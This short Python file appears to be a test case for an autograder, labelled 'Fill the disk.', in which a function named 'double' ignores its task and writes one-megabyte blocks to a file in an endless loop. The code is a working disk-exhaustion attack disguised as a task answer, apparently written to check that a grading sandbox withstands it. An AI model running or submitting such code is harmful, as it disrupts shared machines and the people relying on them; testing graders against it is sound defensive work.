"""Fill the disk.

q1: 0 raised
"""
# %% q1
def double(A):
    with open('x', 'wb') as f:
        while True: f.write(b'x' * 10**6)
